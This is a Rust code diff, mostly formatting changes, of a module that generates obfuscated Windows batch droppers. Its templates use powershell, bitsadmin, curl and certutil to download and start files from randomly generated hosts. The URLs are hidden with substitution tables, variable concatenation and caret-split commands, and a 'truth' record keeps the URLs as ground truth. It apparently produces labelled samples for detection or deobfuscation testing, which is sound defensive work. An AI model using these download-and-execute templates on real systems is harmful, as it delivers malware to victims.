@@ -32,12 +32,12 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
             format!("%{name}%")
         }
         3 => {
-            let letters: String = "abcdefghijklmnopqrstuvwxyz0123456789:/.-_ABCDEFGHIJKLMNOPQRSTUVWXYZ"
-                .chars()
-                .collect();
+            let letters: String =
+                "abcdefghijklmnopqrstuvwxyz0123456789:/.-_ABCDEFGHIJKLMNOPQRSTUVWXYZ"
+                    .chars()
+                    .collect();
             let order = dice.order(letters.len());
-            let table: String =
-                order.iter().filter_map(|at| letters.chars().nth(*at)).collect();
+            let table: String = order.iter().filter_map(|at| letters.chars().nth(*at)).collect();
             let _ = writeln!(before, "set \"{name}={table}\"\r");
             text.chars()
                 .map(|letter| match table.find(letter) {
@@ -67,7 +67,8 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
         6 => {
             let _ = writeln!(before, "setlocal EnableDelayedExpansion\r\nset {name}=\r");
             let pieces = dice.pieces(text);
-            let _ = writeln!(before, "for %%a in ({}) do set {name}=!{name}!%%a\r", pieces.join(" "));
+            let _ =
+                writeln!(before, "for %%a in ({}) do set {name}=!{name}!%%a\r", pieces.join(" "));
             format!("!{name}!")
         }
         7 => {
@@ -90,12 +91,21 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
 }
 
 pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
-    let mut text = dice.pick(&["@echo off\r\n", "@echo off\r\ncd /d %TEMP%\r\n", "@echo off & setlocal\r\nrem update\r\n"]).to_owned();
+    let mut text = dice
+        .pick(&[
+            "@echo off\r\n",
+            "@echo off\r\ncd /d %TEMP%\r\n",
+            "@echo off & setlocal\r\nrem update\r\n",
+        ])
+        .to_owned();
     for _ in 0..1 + dice.below(2) {
         let mut before = String::new();
         let line = delivery(dice, truth, &mut before);
         text.push_str(&before);
         text.push_str(&line);
+        if super::ends(&line) {
+            break;
+        }
     }
     if dice.chance(30) {
         let label = dice.name();
@@ -112,7 +122,9 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         0 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('{url}','{file}')\"\r\nstart \"\" \"{file}\"\r\n")
+            format!(
+                "powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('{url}','{file}')\"\r\nstart \"\" \"{file}\"\r\n"
+            )
         }
         1 => {
             let url = truth.url(dice, FILES);
@@ -122,12 +134,16 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         2 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("bitsadmin /transfer {var} /download /priority high {url} \"{file}\"\r\nstart {file}\r\n")
+            format!(
+                "bitsadmin /transfer {var} /download /priority high {url} \"{file}\"\r\nstart {file}\r\n"
+            )
         }
         3 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("curl -s -L -o \"{file}\" \"{url}\"\r\nif exist \"{file}\" start \"\" /b \"{file}\"\r\n")
+            format!(
+                "curl -s -L -o \"{file}\" \"{url}\"\r\nif exist \"{file}\" start \"\" /b \"{file}\"\r\n"
+            )
         }
         4 => {
             let url = truth.url(dice, &[".hta"]);
@@ -152,12 +168,16 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         8 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("set {var}={url}\r\nset out={file}\r\npowershell -Command \"Invoke-WebRequest '%{var}%' -OutFile '%out%'\"\r\ncall \"%out%\"\r\n")
+            format!(
+                "set {var}={url}\r\nset out={file}\r\npowershell -Command \"Invoke-WebRequest '%{var}%' -OutFile '%out%'\"\r\ncall \"%out%\"\r\n"
+            )
         }
         9 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("call :{var} {url} {file}\r\ngoto :end{var}\r\n:{var}\r\ncurl -o %2 %1\r\nstart %2\r\ngoto :eof\r\n:end{var}\r\n")
+            format!(
+                "call :{var} {url} {file}\r\ngoto :end{var}\r\n:{var}\r\ncurl -o %2 %1\r\nstart %2\r\ngoto :eof\r\n:end{var}\r\n"
+            )
         }
         10 => {
             let host = dice.host();
@@ -166,12 +186,17 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
                 truth.urls.insert(format!("http://{host}/{file}.exe"));
             }
             let host = hide(dice, &host, before);
-            format!("set {var}={host}\r\nfor %%f in ({}) do (\r\n  certutil -urlcache -f http://%{var}%/%%f.exe %TEMP%\\%%f.exe\r\n  start %TEMP%\\%%f.exe\r\n)\r\n", files.join(" "))
+            format!(
+                "set {var}={host}\r\nfor %%f in ({}) do (\r\n  certutil -urlcache -f http://%{var}%/%%f.exe %TEMP%\\%%f.exe\r\n  start %TEMP%\\%%f.exe\r\n)\r\n",
+                files.join(" ")
+            )
         }
         11 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("set c=%COMSPEC:~-16,1%\r\nif not exist \"{file}\" (\r\n  p^ow^ers^hell -ep bypass \"iwr -Uri {url} -OutFile {file}\"\r\n)\r\nstart \"\" {file}\r\n")
+            format!(
+                "set c=%COMSPEC:~-16,1%\r\nif not exist \"{file}\" (\r\n  p^ow^ers^hell -ep bypass \"iwr -Uri {url} -OutFile {file}\"\r\n)\r\nstart \"\" {file}\r\n"
+            )
         }
         12 => {
             let url = truth.url(dice, FILES);
